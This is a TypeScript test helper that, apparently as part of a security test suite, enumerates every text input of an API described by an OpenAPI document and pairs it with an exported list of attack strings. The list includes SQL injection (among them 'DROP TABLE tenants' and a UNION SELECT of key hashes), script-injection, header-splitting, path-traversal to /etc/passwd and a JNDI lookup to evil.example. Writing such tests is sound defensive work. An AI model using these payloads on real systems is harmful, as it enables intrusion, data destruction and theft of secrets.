/** Every place of the interface that takes text, found in its description, and what an attacker would put there. */

export const INJECTIONS = [
  `' OR '1'='1' --`,
  `'; DROP TABLE tenants; --`,
  `%' AND Name LIKE '%`,
  String.raw`\' OR Id != null OR Name = \'`,
  `x' UNION SELECT key_hash FROM tenant_keys --`,
  `o'x@evil.example`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `a\r\nX-Evil: a=b`,
  `\u0000`,
  `../../etc/passwd`,
  '${jndi:ldap://evil.example/a}',
  Buffer.from(`["2026-01-01T00:00:00.000Z","' or 1=1"]`).toString('base64url'),
  Buffer.from(JSON.stringify(['2026-01-01T00:00:00.000Z', '\u0000'])).toString('base64url'),
  Buffer.from(JSON.stringify(['-200000-01-01T00:00:00.000Z', 'x'])).toString('base64url'),
  '0000-01-01',
  '9999-12-31T23:59:59.999Z',
];

interface Schema {
  readonly type?: string;
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly items?: Schema;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly additionalProperties?: boolean | Schema;
}

interface Operation {
  readonly parameters: readonly { readonly name?: string; readonly in?: string; readonly schema?: Schema }[];
  readonly requestBody?: { readonly content: { readonly 'application/json': { readonly schema: Schema } } };
}

export interface TextInput {
  readonly name: string;
  request(text: string): { method: string; path: string; body?: unknown; headers?: Record<string, string> };
}

/** A place for text within a value, however deep. */
interface Place {
  readonly name: string;
  put(text: string): unknown;
}

const takesText = (schema: Schema): boolean => schema.type === 'string' || (schema.enum ?? []).length > 0;

/** Something that lets the rest of a body pass, so that the one field is what is judged. */
function filler(schema: Schema): unknown {
  if (schema.enum) return schema.enum[0];
  if (schema.const !== undefined) return schema.const;
  if (schema.anyOf) return filler(schema.anyOf[0] ?? {});
  if (schema.type === 'boolean') return false;
  if (schema.type === 'integer' || schema.type === 'number') return 40;
  if (schema.type === 'array') return [filler(schema.items ?? {})];
  return schema.type === 'object' ? fillers(schema) : 'x';
}

function fillers({ properties = {}, required = [] }: Schema): Record<string, unknown> {
  return Object.fromEntries(required.map((name) => [name, filler(properties[name] ?? {})]));
}

function placesIn(schema: Schema): Place[] {
  if (takesText(schema)) return [{ name: '', put: (text) => text }];
  if (schema.anyOf) return schema.anyOf.flatMap(placesIn);
  if (schema.items) return placesIn(schema.items).map(({ name, put }) => ({ name: `[]${name}`, put: (t) => [put(t)] }));
  const inside = Object.entries(schema.properties ?? {}).flatMap(([property, part]) =>
    placesIn(part).map(({ name, put }) => ({
      name: `.${property}${name}`,
      put: (text: string) => ({ ...fillers(schema), [property]: put(text) }),
    })),
  );
  const { additionalProperties: rest } = schema;
  if (typeof rest !== 'object') return inside;
  const values = placesIn(rest).map(({ name, put }) => ({
    name: `.*${name}`,
    put: (text: string) => ({ 'a@b.example': put(text) }),
  }));
  return [...inside, ...values, { name: '.(name)', put: (text) => ({ [text]: filler(rest) }) }];
}

/** What Apex tells of the person, and what a browser brings. Line ends and NUL cannot be sent as a header at all. */
function inHeaders(): TextInput[] {
  const names = ['x-acting-user-email', 'x-acting-user-admin', 'x-salesforce-org-id', 'x-request-id', 'cookie'];
  return names.map((name) => ({
    name: `header ${name}`,
    request: (text) => {
      const path = name === 'cookie' ? '/oauth/salesforce/callback?state=s&code=c' : '/api/v1/meetings';
      // eslint-disable-next-line no-control-regex -- taking them out is the point
      const value = text.replace(/[\u0000-\u001f]/g, ' ').trim();
      return { method: 'GET', path, headers: { [name]: name === 'cookie' ? `fathom_oauth=${value}` : value } };
    },
  }));
}

/** @param document what `describeInterface` made */
export function textInputs(document: {
  readonly paths: Readonly<Record<string, Readonly<Record<string, Operation>>>>;
}): TextInput[] {
  const described = Object.entries(document.paths).flatMap(([template, verbs]) =>
    Object.entries(verbs).flatMap(([verb, operation]) => {
      const method = verb.toUpperCase();
      const path = template.replaceAll(/\{[^}]+\}/g, 'external-1');
      const parameters = operation.parameters.flatMap(({ name = '', in: where, schema }): TextInput[] => {
        if (schema === undefined || placesIn(schema).length === 0) return [];
        const address = (text: string) =>
          where === 'path'
            ? template.replace(`{${name}}`, encodeURIComponent(text))
            : `${path}?${name}=${encodeURIComponent(text)}`;
        return [{ name: `${method} ${template} ${name}`, request: (text) => ({ method, path: address(text) }) }];
      });
      const schema = operation.requestBody?.content['application/json'].schema;
      const bodies = placesIn(schema ?? {}).map(({ name, put }): TextInput => ({
        name: `${method} ${template} body ${name}`,
        request: (text) => ({ method, path, body: put(text) }),
      }));
      return [...parameters, ...bodies];
    }),
  );
  return [...described, ...inHeaders()];
}
